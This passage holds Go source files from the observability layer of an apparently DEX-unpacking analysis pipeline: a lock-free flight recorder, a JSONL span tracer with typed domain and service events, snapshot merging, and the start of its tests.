func (s *Snapshot) EventCount(t EventType) int64 {
	if s == nil {
		return 0
	}
	return s.Events[t.String()]
}

// MergeSnapshots folds src into dst and returns the result, treating nil as
// empty on either side; dst is mutated when non-nil.
func MergeSnapshots(dst, src *Snapshot) *Snapshot {
	if src == nil {
		return dst
	}
	if dst == nil {
		dst = &Snapshot{}
	}
	for k, v := range src.Events {
		if dst.Events == nil {
			dst.Events = make(map[string]int64, len(src.Events))
		}
		dst.Events[k] += v
	}
	if src.MaxTreeDepth > dst.MaxTreeDepth {
		dst.MaxTreeDepth = src.MaxTreeDepth
	}
	dst.Dropped += src.Dropped
	for name, hs := range src.Spans {
		if dst.Spans == nil {
			dst.Spans = make(map[string]HistSnapshot, len(src.Spans))
		}
		cur := dst.Spans[name]
		cur.merge(hs)
		dst.Spans[name] = cur
	}
	return dst
}
