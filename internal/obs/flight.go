package obs

import (
	"io"
	"sync/atomic"
)

// defaultFlightEvents is the ring capacity when the caller passes a
// non-positive size.
const defaultFlightEvents = 256

// FlightRecorder is a bounded, lock-free Sink that remembers the most
// recent trace lines for one job. On the happy path the ring is simply
// discarded; when a job fails, panics, or blows its latency objective the
// ring is dumped as JSONL — a flight record of the last N events leading up
// to the incident, cheap enough to keep armed on every job.
//
// Emit never blocks and takes no locks: a monotonically increasing cursor
// claims a slot, and the line pointer is published with an atomic store.
// Lines are retained by reference; that is safe for lines produced by
// Tracer.emit, which allocates a fresh buffer per event, but callers
// feeding a FlightRecorder from elsewhere must not reuse line buffers.
//
// When next is non-nil every line is also forwarded to it (tee), so wiring
// a recorder in front of a JSONL sink keeps the full trace while arming
// the crash ring. A disabled recorder forwards without recording and
// performs zero allocations.
type FlightRecorder struct {
	next     Sink
	disabled atomic.Bool
	mask     uint64
	cur      atomic.Uint64 // total lines recorded; next slot is cur & mask
	slots    []atomic.Pointer[flightLine]
}

// flightLine wraps a recorded line so a slot can be published with one
// pointer store.
type flightLine struct {
	line []byte
}

// NewFlightRecorder returns a recorder holding the last size lines
// (rounded up to a power of two; size <= 0 selects 256), forwarding every
// line to next when next is non-nil.
func NewFlightRecorder(next Sink, size int) *FlightRecorder {
	if size <= 0 {
		size = defaultFlightEvents
	}
	n := 1
	for n < size {
		n <<= 1
	}
	return &FlightRecorder{
		next:  next,
		mask:  uint64(n - 1),
		slots: make([]atomic.Pointer[flightLine], n),
	}
}

// SetEnabled arms or disarms the ring; a disarmed recorder still forwards
// to the tee target but records nothing and allocates nothing.
func (f *FlightRecorder) SetEnabled(on bool) {
	if f != nil {
		f.disabled.Store(!on)
	}
}

// Emit records line in the ring and forwards it to the tee target.
func (f *FlightRecorder) Emit(line []byte) error {
	if !f.disabled.Load() {
		idx := (f.cur.Add(1) - 1) & f.mask
		f.slots[idx].Store(&flightLine{line: line})
	}
	if f.next != nil {
		return f.next.Emit(line)
	}
	return nil
}

// Len reports how many lines the ring currently holds (0 on nil).
func (f *FlightRecorder) Len() int {
	if f == nil {
		return 0
	}
	n := f.cur.Load()
	if n > f.mask+1 {
		n = f.mask + 1
	}
	return int(n)
}

// Total reports how many lines have been recorded over the recorder's
// lifetime, including lines the ring has since overwritten.
func (f *FlightRecorder) Total() int64 {
	if f == nil {
		return 0
	}
	return int64(f.cur.Load())
}

// Dump writes the recorded lines to w as JSONL, oldest first, and returns
// the number of lines written. Slots still in flight (claimed but not yet
// published by a concurrent Emit) are skipped rather than torn. Dump does
// not consume the ring; call Reset to clear it.
func (f *FlightRecorder) Dump(w io.Writer) (int, error) {
	if f == nil {
		return 0, nil
	}
	end := f.cur.Load()
	size := f.mask + 1
	start := uint64(0)
	if end > size {
		start = end - size
	}
	written := 0
	for i := start; i < end; i++ {
		fl := f.slots[i&f.mask].Load()
		if fl == nil {
			continue
		}
		if _, err := w.Write(fl.line); err != nil {
			return written, err
		}
		written++
	}
	return written, nil
}

// Reset clears the ring so retained lines become collectible; the tee
// target is untouched.
func (f *FlightRecorder) Reset() {
	if f == nil {
		return
	}
	f.cur.Store(0)
	for i := range f.slots {
		f.slots[i].Store(nil)
	}
}
