// Package obs is the zero-dependency observability layer of the DexLego
// pipeline: hierarchical spans and typed domain events emitted as JSONL
// lines to a pluggable sink, plus lock-cheap atomic metrics that aggregate
// into a Snapshot the batch report merges per app.
//
// The no-op default is a nil *Tracer: every method on *Tracer and *Span is
// nil-safe, so instrumented hot paths pay one pointer comparison (and, on a
// live but disabled tracer, one atomic load) when tracing is off — the
// disabled-path cost is pinned by BenchmarkNilSpanEvent and
// BenchmarkDisabledTracerEvent.
//
// Concurrency contract: a Tracer and its spans are safe for concurrent use
// (span IDs are process-global, sink writes are serialized by the sink),
// but its counters are tracer-global — for per-app metric attribution give
// each concurrent Reveal its own Tracer and share one Sink between them,
// which is what cmd/dexlego -batch -trace-out does.
package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"
)

// EventType enumerates the trace event vocabulary: the two span lifecycle
// events plus the typed domain events of the reveal pipeline.
type EventType uint8

// The event vocabulary. Domain events map onto the paper's mechanisms:
// tree_fork/tree_converge are Algorithm 1's divergence and convergence
// cases, ucb_flip is a force-execution branch override (Section IV-E),
// merge_variant/stub_emitted/reflection_rewrite are reassembly decisions
// (Sections IV-B, IV-C), verify_defect is a structural defect in the
// revealed DEX, and concurrent_entry records a collector ownership
// violation just before the guard panics. The service events cover the
// reveal-as-a-service layer (internal/server, internal/store): cache
// hit/miss against the content-addressed artifact store, the time a job
// spent queued for a worker, and the job admission/completion lifecycle.
// The parallel-collection events cover sharded force execution
// (internal/forceexec): worker_merge is one collection shard folded into
// the campaign result at an iteration barrier, and worker_clamp records
// the service capping a job's worker budget to keep jobs x workers within
// GOMAXPROCS. The interpreter events cover the predecoded handler-table
// path (internal/art): predecode_hit is a method bound to a predecoded
// program already in the shared content-keyed cache, and
// predecode_invalidate is a write into a method's live unit array dropping
// its predecoded stream — the observation points where self-modification
// becomes visible to the collector. The telemetry events cover the
// production telemetry plane: resource_sample attributes heap allocation
// and live-heap growth to one pipeline stage, slo_violation records a job
// exceeding its configured latency objective, and flight_dump records the
// per-job flight recorder persisting its ring of recent events after a
// failure or SLO violation. The fleet events cover the multi-node reveal
// fleet (internal/fleet): peer_fetch is one node pulling an artifact from a
// peer's store instead of recomputing it, fleet_forward is a submission
// routed to another node (the key's ring owner, a replica absorbing an
// owner shed, or a takeover after the owner died), fleet_hop stamps the
// nodes a forwarded submission traversed into the executing job's trace,
// and ring_rebuild records membership changing the consistent-hash ring.
// The incremental-reveal events cover the per-method collection cache:
// method_cache_hit and method_cache_miss record one method's fingerprint
// lookup against the method-tree keyspace, and tree_splice records a cached
// collection tree grafted into the result in place of re-execution. The
// memory-budget events cover the budgeted output path: mem_spill records
// one completed method record displaced from the in-memory result to the
// spill tier mid-reveal, and mem_admit_wait records a job blocked in the
// memory-budget admission gate before its reveal ran.
const (
	EventSpanStart EventType = iota
	EventSpanEnd
	EventMethodCollected
	EventTreeFork
	EventTreeConverge
	EventUCBFlip
	EventExceptionTolerated
	EventReflectionRewrite
	EventMergeVariant
	EventStubEmitted
	EventVerifyDefect
	EventConcurrentEntry
	EventCacheHit
	EventCacheMiss
	EventQueueWait
	EventJobEnqueued
	EventJobDone
	EventWorkerMerge
	EventWorkerClamp
	EventPredecodeHit
	EventPredecodeInvalidate
	EventResourceSample
	EventSLOViolation
	EventFlightDump
	EventPeerFetch
	EventFleetForward
	EventFleetHop
	EventRingRebuild
	EventMethodCacheHit
	EventMethodCacheMiss
	EventTreeSplice
	EventMemSpill
	EventMemAdmitWait
	numEventTypes // sentinel, keep last
)

var eventNames = [numEventTypes]string{
	EventSpanStart:           "span_start",
	EventSpanEnd:             "span_end",
	EventMethodCollected:     "method_collected",
	EventTreeFork:            "tree_fork",
	EventTreeConverge:        "tree_converge",
	EventUCBFlip:             "ucb_flip",
	EventExceptionTolerated:  "exception_tolerated",
	EventReflectionRewrite:   "reflection_rewrite",
	EventMergeVariant:        "merge_variant",
	EventStubEmitted:         "stub_emitted",
	EventVerifyDefect:        "verify_defect",
	EventConcurrentEntry:     "concurrent_entry",
	EventCacheHit:            "cache_hit",
	EventCacheMiss:           "cache_miss",
	EventQueueWait:           "queue_wait",
	EventJobEnqueued:         "job_enqueued",
	EventJobDone:             "job_done",
	EventWorkerMerge:         "worker_merge",
	EventWorkerClamp:         "worker_clamp",
	EventPredecodeHit:        "predecode_hit",
	EventPredecodeInvalidate: "predecode_invalidate",
	EventResourceSample:      "resource_sample",
	EventSLOViolation:        "slo_violation",
	EventFlightDump:          "flight_dump",
	EventPeerFetch:           "peer_fetch",
	EventFleetForward:        "fleet_forward",
	EventFleetHop:            "fleet_hop",
	EventRingRebuild:         "ring_rebuild",
	EventMethodCacheHit:      "method_cache_hit",
	EventMethodCacheMiss:     "method_cache_miss",
	EventTreeSplice:          "tree_splice",
	EventMemSpill:            "mem_spill",
	EventMemAdmitWait:        "mem_admit_wait",
}

// EventTypes returns every known event type, in declaration order.
func EventTypes() []EventType {
	out := make([]EventType, numEventTypes)
	for i := range out {
		out[i] = EventType(i)
	}
	return out
}

func (t EventType) String() string {
	if int(t) < len(eventNames) {
		return eventNames[t]
	}
	return fmt.Sprintf("event(%d)", uint8(t))
}

// MarshalText encodes the symbolic event name; unknown values are an error
// so a corrupt trace can never be written silently.
func (t EventType) MarshalText() ([]byte, error) {
	if int(t) >= len(eventNames) {
		return nil, fmt.Errorf("obs: unknown event type %d", uint8(t))
	}
	return []byte(eventNames[t]), nil
}

// UnmarshalText rejects event names outside the vocabulary, which is what
// makes trace decoding a schema validation.
func (t *EventType) UnmarshalText(b []byte) error {
	for i, name := range eventNames {
		if name == string(b) {
			*t = EventType(i)
			return nil
		}
	}
	return fmt.Errorf("obs: unknown event type %q", b)
}

// Branch outcome labels of a ucb_flip event.
const (
	BranchTaken       = "taken"
	BranchFallthrough = "fallthrough"
)

// Outcome labels of a job_done event.
const (
	JobOK     = "ok"
	JobFailed = "failed"
)

// Reason labels of a flight_dump event: the job failed (which includes a
// panic isolated by the pipeline) or it finished but blew its latency SLO.
const (
	FlightReasonFailed = "failed"
	FlightReasonSLO    = "slo"
)

// Outcome labels of a peer_fetch event.
const (
	PeerHit  = "hit"
	PeerMiss = "miss"
)

// Role labels of a fleet_forward event: the target is the key's ring
// owner, a replica absorbing an owner shed, or the forwarding node itself
// taking the key over after its owner died.
const (
	ForwardOwner    = "owner"
	ForwardReplica  = "replica"
	ForwardTakeover = "takeover"
)

// Event is one JSONL trace line. The struct is the union of all event
// payloads; Validate (report.go) checks the per-type required fields.
// Timestamps are nanoseconds on a process-wide monotonic clock, so events
// from tracers sharing a sink order consistently.
type Event struct {
	Type   EventType `json:"ev"`
	TS     int64     `json:"tsNS"`
	Span   uint64    `json:"span,omitempty"`
	Parent uint64    `json:"parent,omitempty"` // span_start: enclosing span
	Trace  string    `json:"trace,omitempty"`  // stable job trace id (content-hash prefix), inherited by the whole span tree
	Name   string    `json:"name,omitempty"`   // span name; job_done: ok|failed; resource_sample: stage; flight_dump: reason
	App    string    `json:"app,omitempty"`    // root span: application label
	DurNS  int64     `json:"durNS,omitempty"`  // span_end, queue_wait, job_done, slo_violation
	Method string    `json:"method,omitempty"` // method key
	PC     int       `json:"pc,omitempty"`     // dex_pc
	Depth  int       `json:"depth,omitempty"`  // self-modification layer depth
	Iter   int       `json:"iter,omitempty"`   // force-execution iteration
	Branch string    `json:"branch,omitempty"` // ucb_flip: taken|fallthrough
	Target string    `json:"target,omitempty"` // reflection_rewrite: bridge method
	From   int       `json:"from,omitempty"`   // merge_variant: raw tree count; worker_merge: trees offered; worker_clamp: requested workers
	Count  int       `json:"count,omitempty"`  // merge_variant: arrays kept; method_collected: insns; worker_merge: trees kept; worker_clamp: granted workers; flight_dump: events dumped
	Worker int       `json:"worker,omitempty"` // worker_merge: merged shard index
	Detail string    `json:"detail,omitempty"` // verify_defect, concurrent_entry; service events: cache key or job id; worker_clamp: reason; mem_spill: spill-tier store key
	Bytes  int64     `json:"bytes,omitempty"`  // resource_sample: heap bytes allocated during the stage; mem_spill: serialized record size; mem_admit_wait: requested estimate
	Heap   int64     `json:"heap,omitempty"`   // resource_sample: live-heap delta vs run start after the stage
	SLONS  int64     `json:"sloNS,omitempty"`  // slo_violation: the configured latency objective
}

// Sink receives encoded trace lines (each terminated by '\n').
// Implementations must be safe for concurrent use; one Sink may be shared
// by many tracers.
type Sink interface {
	Emit(line []byte) error
}

// JSONLSink serializes trace lines onto one io.Writer.
type JSONLSink struct {
	mu  sync.Mutex
	w   io.Writer
	err error
}

// NewJSONLSink wraps w; writes are serialized under an internal mutex.
func NewJSONLSink(w io.Writer) *JSONLSink { return &JSONLSink{w: w} }

// Emit writes one line. After the first write error the sink latches it and
// drops subsequent lines.
func (s *JSONLSink) Emit(line []byte) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.err != nil {
		return s.err
	}
	_, s.err = s.w.Write(line)
	return s.err
}

// Err returns the first write error, if any.
func (s *JSONLSink) Err() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.err
}

// epoch is the process-wide monotonic origin of all trace timestamps.
var epoch = time.Now()

// spanIDs allocates span identifiers unique across all tracers in the
// process, so tracers sharing one sink never collide.
var spanIDs atomic.Uint64

// Tracer emits spans, domain events, and metrics. A nil *Tracer is the
// no-op default; a non-nil tracer with a nil sink records metrics only.
type Tracer struct {
	enabled  atomic.Bool
	sink     Sink
	traceID  string // stamped on every event; set before the first Start
	counters [numEventTypes]Counter
	maxDepth Gauge
	dropped  atomic.Int64
	spans    sync.Map // span name -> *Histogram of durations
}

// New returns an enabled tracer writing to sink. A nil sink keeps metrics
// without emitting trace lines.
func New(sink Sink) *Tracer {
	t := &Tracer{sink: sink}
	t.enabled.Store(true)
	return t
}

// Enabled reports whether the tracer records anything; false on nil.
func (t *Tracer) Enabled() bool { return t != nil && t.enabled.Load() }

// SetEnabled flips the atomic enabled flag; instrumented call sites observe
// it on their next event.
func (t *Tracer) SetEnabled(on bool) {
	if t != nil {
		t.enabled.Store(on)
	}
}

// SetTraceID names the stable trace identity (a content-hash prefix for
// server jobs) stamped on every event this tracer emits, root and child
// spans alike, so one job's span tree is extractable from a shared sink.
// Call it before the first Start; it is not synchronized against
// concurrent emission.
func (t *Tracer) SetTraceID(id string) {
	if t != nil {
		t.traceID = id
	}
}

// TraceID returns the stable trace identity ("" when unset or nil).
func (t *Tracer) TraceID() string {
	if t == nil {
		return ""
	}
	return t.traceID
}

// EventCount returns the live count of one event type recorded by this
// tracer (0 on nil).
func (t *Tracer) EventCount(ty EventType) int64 {
	if t == nil || int(ty) >= int(numEventTypes) {
		return 0
	}
	return t.counters[ty].Load()
}

// Dropped counts events lost to sink or encoding errors.
func (t *Tracer) Dropped() int64 {
	if t == nil {
		return 0
	}
	return t.dropped.Load()
}

// emit counts the event and, when a sink is attached, encodes it as one
// JSONL line. Callers have already checked Enabled.
func (t *Tracer) emit(ev *Event) {
	t.counters[ev.Type].Add(1)
	if ev.Type == EventTreeFork || ev.Type == EventMethodCollected {
		t.maxDepth.Max(int64(ev.Depth))
	}
	if t.sink == nil {
		return
	}
	ev.TS = int64(time.Since(epoch))
	line, err := json.Marshal(ev)
	if err != nil {
		t.dropped.Add(1)
		return
	}
	if err := t.sink.Emit(append(line, '\n')); err != nil {
		t.dropped.Add(1)
	}
}

func (t *Tracer) spanHist(name string) *Histogram {
	if h, ok := t.spans.Load(name); ok {
		return h.(*Histogram)
	}
	h, _ := t.spans.LoadOrStore(name, &Histogram{})
	return h.(*Histogram)
}

// Start opens a root span. app labels the application the span covers (it
// becomes the trace report's grouping key); Start returns nil when the
// tracer is nil or disabled, and a nil *Span is itself a valid no-op.
func (t *Tracer) Start(name, app string) *Span {
	if !t.Enabled() {
		return nil
	}
	s := &Span{t: t, id: spanIDs.Add(1), name: name, trace: t.traceID, start: time.Since(epoch)}
	t.emit(&Event{Type: EventSpanStart, Span: s.id, Name: name, App: app, Trace: s.trace})
	return s
}

// Span is one timed, hierarchical region of a trace. All methods are
// nil-safe.
type Span struct {
	t     *Tracer
	id    uint64
	name  string
	trace string // inherited trace identity, stamped on every event
	start time.Duration
	ended atomic.Bool
}

// Enabled reports whether events on this span are recorded. Call sites
// whose event arguments are themselves costly (key construction, depth
// walks) should guard on it.
func (s *Span) Enabled() bool { return s != nil && s.t.enabled.Load() }

// ID returns the span identifier (0 for a nil span).
func (s *Span) ID() uint64 {
	if s == nil {
		return 0
	}
	return s.id
}

// Start opens a child span inheriting the parent's trace identity.
func (s *Span) Start(name string) *Span {
	if !s.Enabled() {
		return nil
	}
	c := &Span{t: s.t, id: spanIDs.Add(1), name: name, trace: s.trace, start: time.Since(epoch)}
	s.emit(&Event{Type: EventSpanStart, Span: c.id, Parent: s.id, Name: name, Trace: c.trace})
	return c
}

// Trace returns the span's inherited trace identity ("" on nil).
func (s *Span) Trace() string {
	if s == nil {
		return ""
	}
	return s.trace
}

// emit stamps the span's trace identity and forwards to the tracer.
func (s *Span) emit(ev *Event) {
	ev.Trace = s.trace
	s.t.emit(ev)
}

// End closes the span, observing its duration into the tracer's per-name
// histogram. End is idempotent, so a deferred End composes with an explicit
// one on the success path.
func (s *Span) End() {
	if !s.Enabled() || !s.ended.CompareAndSwap(false, true) {
		return
	}
	d := time.Since(epoch) - s.start
	s.t.spanHist(s.name).Observe(int64(d))
	s.emit(&Event{Type: EventSpanEnd, Span: s.id, Name: s.name, DurNS: int64(d)})
}

// --- typed domain emitters --------------------------------------------------

// MethodCollected records one unique collection tree retained for a method:
// its layer depth (1 = no self-modification) and unique instruction count.
func (s *Span) MethodCollected(method string, depth, insns int) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventMethodCollected, Span: s.id, Method: method, Depth: depth, Count: insns})
}

// TreeFork records a collection-tree divergence: a different instruction at
// a recorded dex_pc opened self-modification layer `depth`.
func (s *Span) TreeFork(method string, pc, depth int) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventTreeFork, Span: s.id, Method: method, PC: pc, Depth: depth})
}

// TreeConverge records the end of self-modification layer `depth` at pc.
func (s *Span) TreeConverge(method string, pc, depth int) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventTreeConverge, Span: s.id, Method: method, PC: pc, Depth: depth})
}

// PredecodeHit records a method binding to a predecoded program that was
// already present in the shared program cache.
func (s *Span) PredecodeHit(method string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventPredecodeHit, Span: s.id, Method: method})
}

// PredecodeInvalidate records a write into a method's live unit array
// dropping its predecoded stream. pc is the dex_pc where the modification
// was observed (-1 outside bytecode is recorded as pc 0 omitted).
func (s *Span) PredecodeInvalidate(method string, pc int) {
	if !s.Enabled() {
		return
	}
	if pc < 0 {
		pc = 0
	}
	s.emit(&Event{Type: EventPredecodeInvalidate, Span: s.id, Method: method, PC: pc})
}

// UCBFlip records a force-execution branch override in iteration iter.
func (s *Span) UCBFlip(method string, pc int, taken bool, iter int) {
	if !s.Enabled() {
		return
	}
	branch := BranchFallthrough
	if taken {
		branch = BranchTaken
	}
	s.emit(&Event{Type: EventUCBFlip, Span: s.id, Method: method, PC: pc, Branch: branch, Iter: iter})
}

// ExceptionTolerated records an unhandled exception cleared by the
// force-execution tolerance hook.
func (s *Span) ExceptionTolerated(method string, pc int) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventExceptionTolerated, Span: s.id, Method: method, PC: pc})
}

// ReflectionRewrite records a Method.invoke call site rewritten to the
// direct-call bridge `target`.
func (s *Span) ReflectionRewrite(method string, pc int, target string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventReflectionRewrite, Span: s.id, Method: method, PC: pc, Target: target})
}

// MergeVariant records a reassembler merge decision: `from` raw collection
// trees collapsed into `to` instruction arrays (to > 1 means variant bodies
// were emitted behind a dispatcher).
func (s *Span) MergeVariant(method string, from, to int) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventMergeVariant, Span: s.id, Method: method, From: from, Count: to})
}

// StubEmitted records a declared-but-never-executed method emitted as a
// default-return stub.
func (s *Span) StubEmitted(method string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventStubEmitted, Span: s.id, Method: method})
}

// VerifyDefect records one structural defect found in the revealed DEX.
func (s *Span) VerifyDefect(detail string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventVerifyDefect, Span: s.id, Detail: detail})
}

// ConcurrentEntry records a collector ownership violation observed by the
// atomic guard, so the trace captures the context the subsequent panic
// destroys.
func (s *Span) ConcurrentEntry(detail string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventConcurrentEntry, Span: s.id, Detail: detail})
}

// WorkerMerge records one collection shard folded into the campaign result
// at a force-execution barrier: shard index `worker` in iteration `iter`
// offered `offered` collection trees of which `kept` were new (the rest
// were fingerprint-dedup hits against trees already on record).
func (s *Span) WorkerMerge(worker, iter, offered, kept int) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventWorkerMerge, Span: s.id, Worker: worker, Iter: iter, From: offered, Count: kept})
}

// WorkerClamp records the admission layer capping a job's reveal-internal
// worker budget from `requested` to `granted` so concurrent jobs cannot
// oversubscribe the machine; detail names the constraint that bound.
func (s *Span) WorkerClamp(requested, granted int, detail string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventWorkerClamp, Span: s.id, From: requested, Count: granted, Detail: detail})
}

// --- service emitters (internal/server, internal/store) ---------------------

// CacheHit records a reveal served from the content-addressed artifact
// store under cache key `key` — no Reveal ran for this request.
func (s *Span) CacheHit(key string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventCacheHit, Span: s.id, Detail: key})
}

// CacheMiss records a reveal the store could not serve: the request's
// cache key had no artifact, so a Reveal ran to produce one.
func (s *Span) CacheMiss(key string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventCacheMiss, Span: s.id, Detail: key})
}

// MethodCacheHit records one method served from the incremental per-method
// collection cache: its fingerprint resolved to a stored tree, so force
// execution skips it and the tree is spliced later.
func (s *Span) MethodCacheHit(method string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventMethodCacheHit, Span: s.id, Method: method})
}

// MethodCacheMiss records one method the incremental cache could not serve
// (changed body, changed callee, uncacheable record): it executes in full.
func (s *Span) MethodCacheMiss(method string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventMethodCacheMiss, Span: s.id, Method: method})
}

// TreeSplice records `trees` cached collection trees grafted into the
// result for `method` in place of re-execution.
func (s *Span) TreeSplice(method string, trees int) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventTreeSplice, Span: s.id, Method: method, Count: trees})
}

// MemSpill records one completed method record displaced from the
// in-memory collection result to the spill tier mid-reveal: `bytes` of
// serialized trees stored under content address `key`, to be fetched back
// one class at a time during reassembly.
func (s *Span) MemSpill(method string, bytes int64, key string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventMemSpill, Span: s.id, Method: method, Bytes: bytes, Detail: key})
}

// MemAdmitWait records job `id` blocked in the memory-budget admission
// gate for `wait` before its reveal ran, having requested an estimated
// footprint of `bytes`.
func (s *Span) MemAdmitWait(id string, wait time.Duration, bytes int64) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventMemAdmitWait, Span: s.id, Detail: id, DurNS: int64(wait), Bytes: bytes})
}

// QueueWait records how long job `id` waited in the admission queue before
// a worker dequeued it.
func (s *Span) QueueWait(id string, wait time.Duration) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventQueueWait, Span: s.id, Detail: id, DurNS: int64(wait)})
}

// JobEnqueued records job `id` passing admission control into the queue.
func (s *Span) JobEnqueued(id string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventJobEnqueued, Span: s.id, Detail: id})
}

// JobDone records job `id` finishing after total latency `total`
// (admission to completion); ok selects the JobOK/JobFailed outcome label.
func (s *Span) JobDone(id string, total time.Duration, ok bool) {
	if !s.Enabled() {
		return
	}
	outcome := JobFailed
	if ok {
		outcome = JobOK
	}
	s.emit(&Event{Type: EventJobDone, Span: s.id, Detail: id, Name: outcome, DurNS: int64(total)})
}

// --- telemetry-plane emitters ------------------------------------------------

// ResourceSample attributes resource consumption to one pipeline stage:
// alloc is the heap bytes allocated while the stage ran and heapDelta the
// live-heap growth versus the start of the run observed at the stage
// boundary (both process-wide runtime/metrics deltas — exact for a serial
// process, an attribution upper bound under concurrent jobs).
func (s *Span) ResourceSample(stage string, alloc, heapDelta int64) {
	if !s.Enabled() {
		return
	}
	if alloc < 0 {
		alloc = 0
	}
	s.emit(&Event{Type: EventResourceSample, Span: s.id, Name: stage, Bytes: alloc, Heap: heapDelta})
}

// SLOViolation records job `id` completing after `total`, past its
// configured latency objective `limit`.
func (s *Span) SLOViolation(id string, total, limit time.Duration) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventSLOViolation, Span: s.id, Detail: id, DurNS: int64(total), SLONS: int64(limit)})
}

// FlightDump records the flight recorder of job `id` persisting `events`
// ring entries; reason is FlightReasonFailed or FlightReasonSLO.
func (s *Span) FlightDump(id string, events int, reason string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventFlightDump, Span: s.id, Detail: id, Count: events, Name: reason})
}

// --- fleet emitters (internal/fleet) -----------------------------------------

// PeerFetch records an attempt to pull the artifact under cache key `key`
// from peer node `peer` instead of recomputing it; hit selects the
// PeerHit/PeerMiss outcome label.
func (s *Span) PeerFetch(key, peer string, hit bool) {
	if !s.Enabled() {
		return
	}
	outcome := PeerMiss
	if hit {
		outcome = PeerHit
	}
	s.emit(&Event{Type: EventPeerFetch, Span: s.id, Detail: key, Target: peer, Name: outcome})
}

// FleetForward records the submission for cache key `key` being routed to
// node `target`; role is ForwardOwner, ForwardReplica or ForwardTakeover.
func (s *Span) FleetForward(key, target, role string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventFleetForward, Span: s.id, Detail: key, Target: target, Name: role})
}

// FleetHop records that job `id`, now executing locally, previously
// traversed fleet node `node` — the per-hop stamp that makes a forwarded
// submission's path reconstructible from the executing job's flight
// recording.
func (s *Span) FleetHop(id, node string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventFleetHop, Span: s.id, Detail: id, Target: node})
}

// RingRebuild records the consistent-hash ring being rebuilt after node
// `changed` joined or left: `alive` of `total` configured members remain
// routable.
func (s *Span) RingRebuild(alive, total int, changed string) {
	if !s.Enabled() {
		return
	}
	s.emit(&Event{Type: EventRingRebuild, Span: s.id, Count: alive, From: total, Target: changed})
}
