package obs

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"sync"
	"testing"
)

func parseAll(t *testing.T, buf *bytes.Buffer) []*Event {
	t.Helper()
	tr, err := ReadTrace(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("trace does not validate: %v", err)
	}
	return tr.Events
}

func TestSpanHierarchyEmitsValidJSONL(t *testing.T) {
	var buf bytes.Buffer
	tr := New(NewJSONLSink(&buf))
	root := tr.Start("reveal", "app-a")
	stage := root.Start("stage.collection")
	stage.TreeFork("La;->m()V", 6, 1)
	stage.TreeConverge("La;->m()V", 10, 1)
	stage.MethodCollected("La;->m()V", 2, 17)
	stage.End()
	root.End()

	evs := parseAll(t, &buf)
	if len(evs) != 7 {
		t.Fatalf("got %d events, want 7", len(evs))
	}
	if evs[0].Type != EventSpanStart || evs[0].Parent != 0 || evs[0].App != "app-a" {
		t.Errorf("root span_start wrong: %+v", evs[0])
	}
	if evs[1].Type != EventSpanStart || evs[1].Parent != evs[0].Span {
		t.Errorf("child span not parented to root: %+v", evs[1])
	}
	if evs[2].Type != EventTreeFork || evs[2].Span != evs[1].Span || evs[2].PC != 6 {
		t.Errorf("tree_fork wrong: %+v", evs[2])
	}
	if evs[5].Type != EventSpanEnd || evs[5].Name != "stage.collection" || evs[5].DurNS < 0 {
		t.Errorf("stage span_end wrong: %+v", evs[5])
	}
	if evs[6].Type != EventSpanEnd || evs[6].Span != evs[0].Span {
		t.Errorf("root span_end wrong: %+v", evs[6])
	}
	for i := 1; i < len(evs); i++ {
		if evs[i].TS < evs[i-1].TS {
			t.Errorf("timestamps not monotonic at %d: %d < %d", i, evs[i].TS, evs[i-1].TS)
		}
	}
}

// TestServiceEventEmitters drives the reveal-as-a-service emitters through
// a real sink and checks every line validates and counts.
func TestServiceEventEmitters(t *testing.T) {
	var buf bytes.Buffer
	tr := New(NewJSONLSink(&buf))
	root := tr.Start("server", "dexlego-serve")
	job := root.Start("job")
	job.JobEnqueued("job-1")
	job.QueueWait("job-1", 1500)
	job.CacheMiss("aa11")
	job.JobDone("job-1", 9000, true)
	job.CacheHit("aa11")
	job.JobDone("job-2", 100, false)
	job.End()
	root.End()

	evs := parseAll(t, &buf)
	snap := tr.Snapshot()
	for ty, want := range map[EventType]int64{
		EventJobEnqueued: 1, EventQueueWait: 1, EventCacheMiss: 1,
		EventCacheHit: 1, EventJobDone: 2,
	} {
		if got := snap.EventCount(ty); got != want {
			t.Errorf("%s count = %d, want %d", ty, got, want)
		}
	}
	var sawOK, sawFailed bool
	for _, ev := range evs {
		if ev.Type != EventJobDone {
			continue
		}
		switch ev.Name {
		case JobOK:
			sawOK = true
		case JobFailed:
			sawFailed = true
		}
	}
	if !sawOK || !sawFailed {
		t.Errorf("job_done outcomes incomplete: ok=%t failed=%t", sawOK, sawFailed)
	}
}

func TestSpanEndIsIdempotent(t *testing.T) {
	var buf bytes.Buffer
